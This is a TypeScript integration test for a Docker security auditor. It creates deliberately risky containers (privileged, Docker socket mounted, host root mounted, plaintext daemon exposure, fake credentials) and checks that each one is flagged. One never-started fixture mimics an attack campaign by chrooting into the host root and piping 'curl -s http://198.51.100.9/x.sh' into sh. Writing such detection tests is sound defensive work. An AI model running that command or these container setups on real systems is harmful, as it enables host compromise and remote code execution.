// The audit against the real lab engine, exposed on a loopback TCP port, with risky containers created for the
// test (running and stopped): every risky setting must come back as a finding naming that container.
import { linkSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { docker, expose, labFromEnv, type Exposure } from '../../lab/index.js';
import { runAudit, type AuditResult } from '../../../src/auditor/index.js';
import type { Finding } from '../../../src/core/report/finding.js';

const lab = labFromEnv();
const NAMES = ['pcl-audit-priv', 'pcl-audit-sock', 'pcl-audit-renamed', 'pcl-audit-root', 'pcl-audit-capall',
  'pcl-audit-pidhost', 'pcl-audit-restart', 'pcl-audit-port', 'pcl-audit-labdir', 'pcl-audit-plain', 'pcl-audit-campaign',
  'pcl-audit-sockpub', 'pcl-audit-sockhost', 'pcl-audit-dind', 'pcl-audit-secrets'];
const BASE = ['--label', 'portcullis.test=audit'];
let exposure: Exposure;
let result: AuditResult;
let dir: string;

function removeOurs(): void {
  for (const n of NAMES) {
    try { docker(lab, ['rm', '-f', n]); } catch { /* not there */ }
  }
}

function of(name: string): Finding[] {
  return result.report.findings.filter((f) => f.target.startsWith(`container ${name} (`));
}

function rulesOf(name: string): string[] {
  return [...new Set(of(name).map((f) => f.ruleId))].sort();
}

beforeAll(async () => {
  removeOurs();
  dir = mkdtempSync(join(tmpdir(), 'pcl-audit-lab-'));
  // A hard link to the engine socket under another name: same inode, a path no name-based rule knows.
  const renamed = join(dir, 'engine.s');
  linkSync(lab.socketPath, renamed);
  const run = (name: string, args: string[]) => docker(lab, ['run', '-d', '--name', name, ...BASE, '--network', 'none', ...args, 'alpine:latest', 'sleep', '600']);
  const create = (name: string, args: string[]) => docker(lab, ['create', '--name', name, ...BASE, ...args, 'alpine:latest', 'sleep', '600']);
  create('pcl-audit-priv', ['--privileged', '--network', 'none']);
  run('pcl-audit-sock', ['-v', `${lab.socketPath}:/var/run/docker.sock`]);
  run('pcl-audit-renamed', ['-v', `${renamed}:/run/engine.sock`]);
  create('pcl-audit-root', ['--network', 'none', '-v', '/:/host']);
  create('pcl-audit-capall', ['--network', 'none', '--cap-add', 'ALL']);
  run('pcl-audit-pidhost', ['--pid', 'host']);
  run('pcl-audit-restart', ['--restart', 'always']);
  create('pcl-audit-port', ['-p', '0.0.0.0:18080:80']);
  create('pcl-audit-labdir', ['--network', 'none', '-v', `${lab.dir}:/lab:ro`]);
  create('pcl-audit-plain', ['--network', 'none', '--memory', '64m', '--pids-limit', '64', '--cpu-shares', '512', '-e', 'APP_PASSWORD_FILE=/run/secrets/app']);
  // Credentials anyone reading the API sees with docker inspect.
  create('pcl-audit-secrets', ['--network', 'none', '-e', 'POSTGRES_PASSWORD=pcl-lab-not-a-real-secret', '-e', `LOOKS_HARMLESS=AKIA${'Q'.repeat(16)}`]);
  // Socket proxies: the socket plus a published port (bridge, loopback) or the host network with an exposed port.
  create('pcl-audit-sockpub', ['-p', '127.0.0.1:12375:2375', '-v', `${lab.socketPath}:/var/run/docker.sock`, '-e', 'POST=1']);
  create('pcl-audit-sockhost', ['--network', 'host', '--expose', '2375', '-v', `${lab.socketPath}:/var/run/docker.sock:ro`]);
  // Docker-in-docker with TLS turned off, its 2375 published on loopback (the entrypoint is what marks it).
  docker(lab, ['create', '--name', 'pcl-audit-dind', ...BASE, '--entrypoint', 'dockerd-entrypoint.sh', '-e', 'DOCKER_TLS_CERTDIR=',
    '-p', '127.0.0.1:12376:2375', 'alpine:latest']);
  // The campaign's shape, created and never started: host root at /mnt, chroot, a download piped into sh.
  docker(lab, ['create', '--name', 'pcl-audit-campaign', ...BASE, '--network', 'none', '-v', '/:/mnt', 'alpine:latest',
    'chroot', '/mnt', 'sh', '-c', 'curl -s http://198.51.100.9/x.sh | sh']);
  exposure = await expose('plain', lab.socketPath, '127.0.0.1');
  result = await runAudit({ dockerHost: `tcp://127.0.0.1:${exposure.port}`, env: {} });
});

afterAll(async () => {
  removeOurs();
  await exposure?.close();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

describe('portcullis audit against the lab engine on a loopback TCP port', () => {
  it('inspects every container, stopped ones included', () => {
    expect(result.summary.dockerPresent).toBe(true);
    expect(result.summary.engine).toBe(`tcp://127.0.0.1:${exposure.port}`);
    const targets = new Set(result.report.findings.map((f) => f.target));
    for (const n of NAMES.filter((x) => x !== 'pcl-audit-plain')) {
      expect([...targets].some((t) => t.startsWith(`container ${n} (`)), n).toBe(true);
    }
  });

  it('flags a privileged container that was created and never started', () => {
    const f = of('pcl-audit-priv').find((x) => x.ruleId === 'PCL-CFG-001');
    expect(f?.severity).toBe('critical');
    expect(f?.message).toMatch(/created/);
    expect(f?.evidence[0]).toMatchObject({ kind: 'field', location: 'HostConfig.Privileged' });
  });

  it('flags the docker socket mounted by its real path, by a renamed hard link, and through its directory', () => {
    const sock = of('pcl-audit-sock').find((x) => x.ruleId === 'PCL-EXP-005');
    expect(sock?.severity).toBe('critical');
    expect(sock?.evidence[0]?.value).toBe(`${lab.socketPath}:/var/run/docker.sock`);
    expect(sock?.message).toMatch(/running/);
    const renamed = of('pcl-audit-renamed').find((x) => x.ruleId === 'PCL-EXP-005');
    expect(renamed?.message).toMatch(/same file \(inode \d+\) as the daemon socket/);
    expect(of('pcl-audit-labdir').find((x) => x.ruleId === 'PCL-EXP-005')?.message).toMatch(/contains the daemon socket/);
    // The generic path rule is folded into PCL-EXP-005 for the same container.
    expect(rulesOf('pcl-audit-sock')).not.toContain('PCL-CFG-015');
  });

  it('flags containers that have the socket and publish a port as relays of the API (stopped ones too)', () => {
    const pub = result.report.findings.find((f) => f.ruleId === 'PCL-EXP-003' && f.target === 'tcp://127.0.0.1:12375');
    expect(pub?.severity).toBe('high');
    expect(pub?.message).toMatch(/^container pcl-audit-sockpub \([0-9a-f]{12}\) \(created, image alpine:latest\) has the Docker socket .* publishes 127\.0\.0\.1:12375: it forwards the whole API\.$/);
    expect(pub?.evidence[1]).toMatchObject({ location: expect.stringMatching(/HostConfig\.PortBindings\["2375\/tcp"\]$/) });
    const host = result.report.findings.find((f) => f.ruleId === 'PCL-EXP-003' && f.target === 'tcp://*:2375' && /pcl-audit-sockhost/.test(f.message));
    expect(host?.severity).toBe('critical');
    expect(result.summary.routes).toEqual(expect.arrayContaining(['PCL-EXP-003 tcp://127.0.0.1:12375', 'PCL-EXP-003 tcp://*:2375']));
  });

  it('flags a docker-in-docker container that publishes its plaintext 2375', () => {
    const f = result.report.findings.find((x) => x.ruleId === 'PCL-EXP-001' && x.target === 'tcp://127.0.0.1:12376');
    expect(f?.severity).toBe('high');
    expect(f?.message).toMatch(/^container pcl-audit-dind \([0-9a-f]{12}\) \(created, image alpine:latest\) runs a Docker daemon and publishes it without TLS at 127\.0\.0\.1:12376 \(DOCKER_TLS_CERTDIR is empty\)/);
    expect(f?.evidence.map((e) => e.value)).toEqual(['{"HostIp":"127.0.0.1","HostPort":"12376"}', 'DOCKER_TLS_CERTDIR=']);
  });

  it('flags / mounted, cap-add ALL, pid=host, restart always and a port on 0.0.0.0', () => {
    expect(of('pcl-audit-root').find((x) => x.ruleId === 'PCL-CFG-016')?.severity).toBe('critical');
    expect(rulesOf('pcl-audit-capall')).toContain('PCL-CFG-002');
    expect(rulesOf('pcl-audit-pidhost')).toContain('PCL-CFG-005');
    expect(rulesOf('pcl-audit-restart')).toContain('PCL-CFG-023');
    const port = of('pcl-audit-port').find((x) => x.ruleId === 'PCL-CFG-024');
    expect(port?.evidence[0]?.location).toBe('HostConfig.PortBindings["80/tcp"][0].HostIp');
  });

  it('flags the campaign\'s tactics in a stopped container (core detection rules)', () => {
    const ttp = of('pcl-audit-campaign').filter((f) => f.ruleId.startsWith('PCL-TTP'));
    expect(ttp.map((f) => f.ruleId).sort()).toEqual(['PCL-TTP-001', 'PCL-TTP-002']);
    expect(ttp.every((f) => f.severity === 'critical' && /\(created\)$/.test(f.message))).toBe(true);
  });

  it('flags credentials in a container\'s environment without printing them', () => {
    const f = of('pcl-audit-secrets').filter((x) => x.ruleId === 'PCL-CFG-036');
    expect(f.map((x) => x.evidence[0]?.value).sort()).toEqual(['LOOKS_HARMLESS=<20 characters hidden>', 'POSTGRES_PASSWORD=<25 characters hidden>']);
    expect(f.every((x) => x.severity === 'medium' && x.evidence[0]?.location.startsWith('Config.Env['))).toBe(true);
    expect(JSON.stringify(result.report)).not.toContain('pcl-lab-not-a-real-secret');
    expect(rulesOf('pcl-audit-plain')).not.toContain('PCL-CFG-036');
  });

  it('does not invent risks for a container with limits and no host access', () => {
    const risky = of('pcl-audit-plain').filter((f) => ['critical', 'high'].includes(f.severity));
    expect(risky).toEqual([]);
  });

  it('reads the engine\'s /info: daemon settings and warnings', () => {
    const engine = result.report.findings.filter((f) => f.target === `engine tcp://127.0.0.1:${exposure.port}`);
    const authz = engine.find((f) => f.ruleId === 'PCL-DMN-001');
    expect(authz?.evidence.map((e) => `${e.location}: ${e.value}`)).toEqual([
      '/etc/docker/daemon.json: "authorization-plugins" not set (default [])', 'GET /info Plugins.Authorization: []']);
    expect(engine.find((f) => f.ruleId === 'PCL-DMN-003')?.evidence.at(-1)).toEqual({ kind: 'field', location: 'GET /info LiveRestoreEnabled', value: 'false' });
  });

  it('sees the lab dockerd on this host, its unix socket and its flags (live process table)', () => {
    const proc = result.facts.processes?.find((p) => p.argv.includes(lab.dockerHost));
    expect(proc?.argv[0]).toMatch(/dockerd$/);
    // The engine's /info (DockerRootDir) ties it to the lab dockerd by --data-root, so its flags judge that engine.
    const ipt = result.report.findings.find((f) => f.ruleId === 'PCL-DMN-015' && f.target === `engine tcp://127.0.0.1:${exposure.port}`);
    expect(ipt?.evidence[0]).toEqual({ kind: 'process', location: `pid ${proc?.pid} (/proc/${proc?.pid}/cmdline)`, value: '--iptables=false' });
  });
});
